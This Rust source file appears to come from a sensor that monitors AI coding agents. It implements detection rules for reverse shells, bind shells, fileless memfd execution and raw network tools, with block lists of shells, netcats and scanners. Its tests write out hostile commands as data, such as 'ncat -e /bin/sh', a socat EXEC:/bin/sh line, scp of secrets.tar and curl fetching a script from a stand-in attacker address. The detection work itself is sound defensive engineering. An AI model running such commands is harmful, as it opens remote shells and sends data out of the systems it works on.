//! exec.reverse_shell and exec.suspicious_tool, and the other rules an exec feeds
//! (privilege.escalation, isolation.foreign_worktree for a binary run from another agent's
//! worktree).
//!
//! A socket on a shell's stdin or stdout is not enough for a reverse shell: Node (libuv) gives
//! every child it spawns a socketpair for stdio, so each command a Node-based agent runs has
//! socket stdio. What marks a reverse shell is that the socket leads to a remote peer. The
//! sensor does not report which socket the stdio is, so the evidence is a connection the
//! shell's process or its parent holds, made moments before (a stager runs the shell at once)
//! to a destination the policy does not allow, or accepted from a remote peer (a bind shell).
//! Connections of programs that do not look like stagers do not count: the agent runtime's
//! (it runs its commands over socketpairs while talking to its endpoints), and those of any
//! program that also reached an allowed destination since its exec (an agent or a tool
//! talking to its API, with an endpoint the policy lacks, is exfil.unallowed_egress, not a
//! shell in every command it runs).

use std::net::IpAddr;

use agent_sensor_common::EventKind;

use super::{
    access::{basename, Access, Outcome},
    argv::{self, ip_literal, is_local_host},
    candidate::{destination_long, text, Candidate},
    exfil, isolation, privilege,
    processes::{Processes, RemoteSocket},
    state::AgentState,
    Context,
};
use crate::{
    events::{sockaddr::SockAddr, Body, Event, NetBody, Stdio},
    policy::RuleId,
};

const EINPROGRESS: i64 = 115;
/// How long after its connection a stager's shell may start and still count.
const STAGER_WINDOW_NS: u64 = 30 * 1_000_000_000;

/// Shells and interpreters a reverse shell runs.
const SHELLS: [&str; 30] = [
    "sh", "bash", "dash", "zsh", "ksh", "mksh", "ash", "fish", "csh", "tcsh", "busybox", "node",
    "nodejs", "deno", "bun", "nc", "ncat", "netcat", "socat", "telnet", "awk", "gawk", "mawk",
    "nawk", "irb", "jshell", "tclsh", "wish", "openssl", "lua",
];
/// Interpreters that carry a version in their name (`python3.12`, `perl5.36`).
const VERSIONED: [&str; 7] = ["python", "pypy", "perl", "ruby", "php", "lua", "luajit"];

const NETCATS: [&str; 5] = ["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"];
const SCANNERS: [&str; 5] = ["nmap", "masscan", "zmap", "rustscan", "hping3"];
const SSH_FAMILY: [&str; 4] = ["ssh", "scp", "sftp", "rsync"];
const FETCHERS: [&str; 2] = ["curl", "wget"];

/// Longest command line quoted in a summary.
const MAX_QUOTED: usize = 200;

pub fn check(ctx: &Context, event: &Event, state: &mut AgentState, out: &mut Vec<Candidate>) {
    out.extend(reverse_shell(event, &state.processes));
    out.extend(suspicious_tool(ctx, event));
    out.extend(privilege::exec(event));
    // Running a program from another agent's worktree reads it.
    let exe = state.processes.get(event.tgid).and_then(|p| p.exe.clone());
    if let Some(exe) = exe {
        out.extend(isolation::foreign_access(
            ctx,
            state,
            event,
            &exe,
            Access::Read,
            Outcome::Done,
        ));
    }
}

/// The program an exec runs and its arguments, seeing through busybox applets.
fn program(filename: &[u8], argv: &[Vec<u8>]) -> (String, Vec<String>) {
    let lossy = |b: &[u8]| String::from_utf8_lossy(b).into_owned();
    let name = lossy(basename(filename));
    let args: Vec<String> = argv.iter().skip(1).map(|a| lossy(a)).collect();
    if name != "busybox" {
        return (name, args);
    }
    match argv.first().map(|a| lossy(basename(a))) {
        Some(applet) if applet != "busybox" => (applet, args),
        _ => match args.split_first() {
            Some((applet, rest)) => (applet.clone(), rest.to_vec()),
            None => (name, args),
        },
    }
}

fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
        || VERSIONED.iter().any(|prefix| {
            name.strip_prefix(prefix)
                .is_some_and(|v| v.chars().all(|c| c.is_ascii_digit() || c == '.'))
        })
}

fn reverse_shell(event: &Event, processes: &Processes) -> Option<Candidate> {
    let Body::Exec {
        filename,
        exe,
        argv,
        stdio,
        ..
    } = &event.body
    else {
        return None;
    };
    let on_socket = match (stdio[0] == Stdio::Socket, stdio[1] == Stdio::Socket) {
        (true, true) => "stdin and stdout",
        (true, false) => "stdin",
        (false, true) => "stdout",
        (false, false) => return None,
    };
    let (name, _) = program(filename, argv);
    let real = exe.as_deref().map(|exe| program(exe, argv).0);
    let name = match real {
        Some(real) if !is_shell(&name) && is_shell(&real) => real,
        _ => name,
    };
    if !is_shell(&name) {
        return None;
    }
    let recent =
        |s: &&RemoteSocket| event.ktime_ns.saturating_sub(s.event.ktime_ns) <= STAGER_WINDOW_NS;
    let held = |tgid| {
        processes
            .get(tgid)
            .and_then(|p| p.remote.iter().rev().find(recent))
    };
    let remote: &RemoteSocket = held(event.tgid).or_else(|| held(event.ppid))?;
    let peer = match &remote.event.body {
        Body::Net(NetBody {
            addr: Some(SockAddr::Inet { ip, port }),
            dns_name,
            ..
        }) => destination_long(*ip, *port, dns_name.as_deref()),
        _ => "a remote peer".to_string(),
    };
    let how = if remote.event.kind == EventKind::NetAccept {
        "a connection accepted from"
    } else {
        "a connection to"
    };
    let summary = format!(
        "ran {} with {on_socket} on a socket while holding {how} {peer}",
        text(filename)
    );
    Some(Candidate::new(
        RuleId::ReverseShell,
        text(filename),
        summary,
        vec![remote.event.clone(), event.clone()],
    ))
}

/// Remembers a connection that could carry a reverse shell: to a remote destination the
/// policy does not allow, or accepted from a remote peer.
pub fn note_remote_socket(ctx: &Context, event: &Event, net: &NetBody, processes: &mut Processes) {
    let Some(process) = processes.get_mut(event.tgid) else {
        return;
    };
    let fd = match event.kind {
        EventKind::NetConnect if net.ret >= 0 || net.ret == -EINPROGRESS => {
            let Some((ip, port, name)) = exfil::egress(ctx, event) else {
                return;
            };
            if ip.is_loopback() {
                return;
            }
            if exfil::allowed(ctx, ip, port, name) {
                process.reached_allowed = true;
                return;
            }
            net.fd
        }
        EventKind::NetAccept if net.ret >= 0 => {
            let Some(SockAddr::Inet { ip, .. }) = &net.addr else {
                return;
            };
            if ip.is_loopback() {
                return;
            }
            // accept returns the connected socket; `fd` is the listening one.
            net.ret as i32
        }
        _ => return,
    };
    if process.agent_root || process.reached_allowed {
        return;
    }
    processes.add_remote(
        event.tgid,
        RemoteSocket {
            fd,
            event: event.clone(),
        },
    );
}

/// Judges the exec by the name it was called with and, when a symlink stood in between, by the
/// file that really ran: `~/bin/ls -> /usr/bin/nc` is still netcat.
fn suspicious_tool(ctx: &Context, event: &Event) -> Option<Candidate> {
    let Body::Exec {
        filename,
        exe,
        argv,
        ..
    } = &event.body
    else {
        return None;
    };
    fileless(event, filename, exe.as_deref(), argv)
        .or_else(|| suspicious_tool_named(ctx, event, filename, argv))
        .or_else(|| {
            exe.as_deref()
                .filter(|exe| basename(exe) != basename(filename))
                .and_then(|exe| suspicious_tool_named(ctx, event, exe, argv))
        })
}

/// A program run through a file descriptor whose file has no name the kernel could walk: a
/// memfd (`memfd_create`, write, `execveat`/`fexecve`), the way a dropper runs a payload that
/// never touches the disk, out of reach of every check by path or by inode on disk. A file
/// that does have a name is its program, judged as any other (`exe` is the walked name).
fn fileless(
    event: &Event,
    filename: &[u8],
    exe: Option<&[u8]>,
    argv: &[Vec<u8>],
) -> Option<Candidate> {
    if exe.is_some() || !names_a_descriptor(filename) {
        return None;
    }
    let comm = text(&event.comm);
    Some(Candidate::new(
        RuleId::SuspiciousTool,
        format!("fileless:{comm}"),
        format!(
            "ran a program that has no file on disk ({}, process name {comm}), as a dropper \
             runs its payload from memory: {}",
            text(filename),
            quoted_command(argv)
        ),
        vec![event.clone()],
    ))
}

/// `/dev/fd/N`, `/proc/self/fd/N`, `/proc/thread-self/fd/N`, `/proc/PID/fd/N`: what exec is
/// given to run an open file (glibc's `fexecve` passes the first two).
fn names_a_descriptor(filename: &[u8]) -> bool {
    let number = |s: &[u8]| !s.is_empty() && s.iter().all(u8::is_ascii_digit);
    if let Some(fd) = filename.strip_prefix(b"/dev/fd/") {
        return number(fd);
    }
    let Some(rest) = filename.strip_prefix(b"/proc/") else {
        return false;
    };
    let mut parts = rest.split(|b| *b == b'/');
    let (Some(process), Some(b"fd"), Some(fd), None) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return false;
    };
    (process == b"self" || process == b"thread-self" || number(process)) && number(fd)
}

fn suspicious_tool_named(
    ctx: &Context,
    event: &Event,
    filename: &[u8],
    argv: &[Vec<u8>],
) -> Option<Candidate> {
    let (name, args) = program(filename, argv);
    let (target, why) = if NETCATS.contains(&name.as_str()) {
        if argv::netcat_is_local(&args) {
            return None;
        }
        (text(filename), "a raw network tool".to_string())
    } else if name == "socat" {
        if argv::socat_is_local(&args) {
            return None;
        }
        (text(filename), "a raw network tool".to_string())
    } else if SCANNERS.contains(&name.as_str()) {
        (text(filename), "a network scanner".to_string())
    } else if SSH_FAMILY.contains(&name.as_str()) {
        let remote = argv::ssh_remotes(&name, &args)
            .into_iter()
            .find(|r| !host_allowed(ctx, &r.host, r.port))?;
        (
            format!("{name}:{}", remote.host),
            format!(
                "to {}:{}, which the policy does not allow",
                remote.host, remote.port
            ),
        )
    } else if FETCHERS.contains(&name.as_str()) {
        let (ip, port) = argv::url_remotes(&name, &args)
            .into_iter()
            .filter_map(|r| ip_literal(&r.host).map(|ip| (ip, r.port)))
            .find(|(ip, port)| !is_local(*ip) && !exfil::allowed(ctx, *ip, *port, None))?;
        (
            format!("{name}:{ip}"),
            format!(
                "to the raw address {}, which the policy does not allow",
                destination_long(ip, port, None)
            ),
        )
    } else {
        return None;
    };
    Some(Candidate::new(
        RuleId::SuspiciousTool,
        target,
        format!("ran {name}, {why}: {}", quoted_command(argv)),
        vec![event.clone()],
    ))
}

/// The command line for a summary, cut at `MAX_QUOTED` bytes.
fn quoted_command(argv: &[Vec<u8>]) -> String {
    let mut command = argv.iter().map(|a| text(a)).collect::<Vec<_>>().join(" ");
    if command.len() > MAX_QUOTED {
        let cut = (0..=MAX_QUOTED)
            .rev()
            .find(|i| command.is_char_boundary(*i))
            .unwrap_or(0);
        command.truncate(cut);
        command.push('…');
    }
    command
}

fn is_local(ip: IpAddr) -> bool {
    ip.is_loopback() || ip.is_unspecified()
}

/// Whether the policy lets the agent reach `host:port`. A literal address is judged as a
/// connection to it would be. A name is judged by the policy's host patterns and ports through
/// `egress_allowed`, with an address from 0.0.0.0/8 standing in for the one it will resolve
/// to: no allow-list holds that range but a catch-all, and unlike 0.0.0.0 itself the policy
/// does not treat it as this host.
fn host_allowed(ctx: &Context, host: &str, port: u16) -> bool {
    const STAND_IN: IpAddr = IpAddr::V4(std::net::Ipv4Addr::new(0, 0, 0, 1));
    if is_local_host(host) {
        return true;
    }
    match ip_literal(host) {
        Some(ip) => exfil::allowed(ctx, ip, port, None),
        None => exfil::allowed(ctx, STAND_IN, port, Some(host.as_bytes())),
    }
}

#[cfg(test)]
mod tests {
    use super::super::testkit::*;
    use crate::{
        events::{Body, Stdio},
        policy::RuleId,
    };

    const SOCKETS: [Stdio; 3] = [Stdio::Socket, Stdio::Socket, Stdio::Socket];

    /// The agent runtime, the parent of every other process in these tests.
    fn started() -> Fixture {
        let mut fx = Fixture::new();
        fx.feed(exec(PID, "/usr/bin/node", &["node", "cli.js"]));
        fx
    }

    #[test]
    fn a_shell_on_a_socket_from_a_remote_connection_is_a_reverse_shell() {
        let mut fx = started();
        // python connects out, forks, and the child runs sh on the socket.
        fx.feed(exec(PID + 1, "/usr/bin/python3", &["python3", "-c", "…"]));
        assert_eq!(
            fx.feed(connect(PID + 1, "203.0.113.9", 4444).fd(3)).len(),
            1
        );
        fx.feed(fork(PID + 1, PID + 2));
        let shell = exec(PID + 2, "/bin/sh", &["sh", "-i"])
            .ppid(PID + 1)
            .stdio(SOCKETS);
        let finding = assert_fires(
            fx.feed(shell),
            RuleId::ReverseShell,
            "ran /bin/sh with stdin and stdout on a socket while holding a connection to \
             203.0.113.9:4444",
        );
        assert_eq!(finding.evidence.len(), 2);
    }

    /// An exec whose file the kernel could not walk to a name (a memfd's).
    fn unnamed_exec(filename: &str, comm: &str) -> crate::events::Event {
        let mut event = exec(PID + 1, filename, &["payload", "--quiet"]);
        if let Body::Exec { exe, .. } = &mut event.body {
            *exe = None;
        }
        event.comm = crate::events::Comm::new(comm.as_bytes());
        event
    }

    #[test]
    fn a_program_with_no_file_on_disk_is_suspicious() {
        let mut fx = started();
        assert_fires(
            fx.feed(unnamed_exec("/dev/fd/3", "memfd:payload")),
            RuleId::SuspiciousTool,
            "ran a program that has no file on disk (/dev/fd/3, process name memfd:payload), \
             as a dropper runs its payload from memory: payload --quiet",
        );
        for filename in [
            "/proc/self/fd/4",
            "/proc/thread-self/fd/5",
            "/proc/812/fd/6",
        ] {
            let mut fx = started();
            assert_fires(
                fx.feed(unnamed_exec(filename, "4")),
                RuleId::SuspiciousTool,
                filename,
            );
        }
        // An open file with a name is that program; other unresolved names are not descriptors.
        assert_silent(fx.feed(exec(PID + 1, "/proc/self/fd/3", &["true"])));
        for filename in [
            "/proc/self/fd/",
            "/proc/self/fdinfo/3",
            "/dev/fd/3x",
            "/tmp/x",
        ] {
            assert_silent(fx.feed(unnamed_exec(filename, "x")));
        }
    }

    #[test]
    fn bash_dev_tcp_in_the_same_process_is_a_reverse_shell() {
        let mut fx = started();
        fx.feed(connect(PID + 1, "198.51.100.3", 9001).ret(-115));
        let shell = exec(PID + 1, "/usr/bin/bash", &["bash", "-i"]).stdio(SOCKETS);
        assert_fires(fx.feed(shell), RuleId::ReverseShell, "198.51.100.3:9001");
    }

    #[test]
    fn a_bind_shell_from_an_accepted_remote_peer_is_a_reverse_shell() {
        let mut fx = started();
        fx.feed(accept(PID + 1, "198.51.100.7", 50000, 4));
        let shell = exec(PID + 1, "/usr/bin/python3.12", &["python3.12"]).stdio(SOCKETS);
        assert_fires(
            fx.feed(shell),
            RuleId::ReverseShell,
            "a connection accepted from 198.51.100.7:50000",
        );
    }

    #[test]
    fn a_node_agent_spawning_shells_over_socketpairs_is_not() {
        let mut fx = started();
        // The runtime talks to a local proxy and to an endpoint the policy lacks (reported as
        // egress, once); its commands get socketpair stdio.
        fx.feed(connect(PID, "127.0.0.1", 8080));
        let egress = fx.feed(connect(PID, "198.51.100.20", 443).dns_name("telemetry.example"));
        assert_eq!(rules_of(&egress), vec![RuleId::UnallowedEgress]);
        for child in [PID + 1, PID + 2] {
            fx.feed(fork(PID, child));
            let shell = exec(child, "/bin/bash", &["bash", "-c", "cargo test"]).stdio(SOCKETS);
            assert_silent(fx.feed(shell));
        }
        // A shell on pipes is an ordinary command even after a remote connection.
        let mut fx = started();
        fx.feed(connect(PID + 1, "203.0.113.9", 4444));
        assert_silent(fx.feed(exec(PID + 1, "/bin/sh", &["sh", "-c", "ls"])));
    }

    #[test]
    fn a_closed_remote_socket_no_longer_counts() {
        let mut fx = started();
        fx.feed(connect(PID + 1, "203.0.113.9", 443).fd(7));
        fx.feed(sock_close(PID + 1, 7));
        let shell = exec(PID + 1, "/bin/sh", &["sh"]).stdio(SOCKETS);
        assert_silent(fx.feed(shell));
    }

    #[test]
    fn a_wrapped_runtime_that_talks_to_its_llm_endpoint_is_not() {
        // Waits on policy matching (egress_allowed for api.anthropic.com).
        // `npx claude`: the runtime is a child of the wrapper, not the agent's first process.
        let mut fx = started();
        fx.feed(fork(PID, PID + 1));
        fx.feed(exec(PID + 1, "/usr/bin/node", &["node", "claude"]));
        fx.feed(connect(PID + 1, "160.79.104.10", 443).dns_name("api.anthropic.com"));
        fx.feed(connect(PID + 1, "198.51.100.20", 443).dns_name("telemetry.example"));
        fx.feed(fork(PID + 1, PID + 2));
        let shell = exec(PID + 2, "/bin/bash", &["bash", "-c", "ls"])
            .ppid(PID + 1)
            .stdio(SOCKETS);
        assert_silent(fx.feed(shell));
    }

    #[test]
    fn a_connection_long_before_the_shell_is_no_stager() {
        let mut fx = started();
        fx.feed(connect(PID + 1, "203.0.113.9", 443).fd(7));
        fx.advance_secs(31);
        let shell = exec(PID + 1, "/bin/sh", &["sh"]).stdio(SOCKETS);
        assert_silent(fx.feed(shell));
    }

    #[test]
    fn raw_network_tools_and_scanners_fire() {
        let mut fx = Fixture::new();
        assert_fires(
            fx.feed(exec(PID, "/usr/bin/nc", &["nc", "203.0.113.5", "4444"])),
            RuleId::SuspiciousTool,
            "ran nc, a raw network tool: nc 203.0.113.5 4444",
        );
        assert_fires(
            fx.feed(exec(
                PID,
                "/usr/bin/ncat",
                &["ncat", "-e", "/bin/sh", "127.0.0.1", "1"],
            )),
            RuleId::SuspiciousTool,
            "ncat",
        );
        assert_fires(
            fx.feed(exec(PID, "/usr/bin/nmap", &["nmap", "-sS", "10.0.0.0/24"])),
            RuleId::SuspiciousTool,
            "a network scanner",
        );
        assert_fires(
            fx.feed(exec(PID, "/bin/busybox", &["nc", "-lp", "4444"])),
            RuleId::SuspiciousTool,
            "ran nc",
        );
        assert_fires(
            fx.feed(exec(
                PID,
                "/usr/bin/socat",
                &["socat", "TCP:203.0.113.5:4444", "EXEC:/bin/sh"],
            )),
            RuleId::SuspiciousTool,
            "socat",
        );
    }

    #[test]
    fn a_netcat_behind_a_harmless_looking_symlink_is_judged_by_the_file_that_ran() {
        let mut fx = Fixture::new();
        let mut disguised = exec(PID, "/home/a/bin/ls", &["ls", "203.0.113.5", "4444"]);
        if let Body::Exec { exe, .. } = &mut disguised.body {
            *exe = Some(b"/usr/bin/nc".to_vec());
        }
        assert_fires(fx.feed(disguised), RuleId::SuspiciousTool, "ran nc");
        // The same call without the link behind it is plain ls.
        assert_silent(fx.feed(exec(PID, "/home/a/bin/ls", &["ls", "203.0.113.5", "4444"])));
    }

    #[test]
    fn waiting_for_a_local_port_is_not_suspicious() {
        let mut fx = Fixture::new();
        assert_silent(fx.feed(exec(PID, "/usr/bin/nc", &["nc", "-z", "localhost", "5432"])));
        assert_silent(fx.feed(exec(
            PID,
            "/usr/bin/socat",
            &["socat", "-", "TCP:127.0.0.1:6379"],
        )));
    }

    #[test]
    fn ssh_to_a_host_not_allowed_fires() {
        let mut fx = Fixture::new();
        assert_fires(
            fx.feed(exec(
                PID,
                "/usr/bin/scp",
                &["scp", "secrets.tar", "me@203.0.113.5:/tmp/"],
            )),
            RuleId::SuspiciousTool,
            "ran scp, to 203.0.113.5:22, which the policy does not allow",
        );
        assert_fires(
            fx.feed(exec(
                PID,
                "/usr/bin/rsync",
                &["rsync", "-a", ".", "drop.example:x/"],
            )),
            RuleId::SuspiciousTool,
            "drop.example:22",
        );
        assert_silent(fx.feed(exec(PID, "/usr/bin/ssh", &["ssh", "localhost", "true"])));
        assert_silent(fx.feed(exec(
            PID,
            "/usr/bin/rsync",
            &["rsync", "-a", "src/", "/tmp/dst/"],
        )));
    }

    #[test]
    fn git_over_ssh_to_an_allowed_host_is_silent() {
        // Waits on policy matching (egress hosts "github.com", port 22).
        let mut fx = Fixture::new();
        assert_silent(fx.feed(exec(
            PID,
            "/usr/bin/ssh",
            &[
                "ssh",
                "-o",
                "SendEnv=GIT_PROTOCOL",
                "git@github.com",
                "git-upload-pack 'o/r.git'",
            ],
        )));
    }

    #[test]
    fn curl_to_a_raw_address_fires_and_to_a_name_or_loopback_does_not() {
        let mut fx = Fixture::new();
        assert_fires(
            fx.feed(exec(
                PID,
                "/usr/bin/curl",
                &["curl", "-s", "http://203.0.113.5/x.sh"],
            )),
            RuleId::SuspiciousTool,
            "ran curl, to the raw address 203.0.113.5:80, which the policy does not allow",
        );
        assert_fires(
            fx.feed(exec(PID, "/usr/bin/wget", &["wget", "http://3405803781/"])),
            RuleId::SuspiciousTool,
            "203.0.113.5",
        );
        assert_silent(fx.feed(exec(
            PID,
            "/usr/bin/curl",
            &["curl", "https://example.com/"],
        )));
        assert_silent(fx.feed(exec(
            PID,
            "/usr/bin/curl",
            &["curl", "http://127.0.0.1:3000/health"],
        )));
        assert_silent(fx.feed(exec(PID, "/usr/bin/curl", &["curl", "http://[::1]:8080/"])));
    }

    #[test]
    fn curl_to_an_allowed_cidr_is_silent() {
        // Waits on policy matching (egress cidrs 10.20.0.0/16, port 443).
        let mut fx = Fixture::new();
        assert_silent(fx.feed(exec(
            PID,
            "/usr/bin/curl",
            &["curl", "https://10.20.1.2/api"],
        )));
    }
}
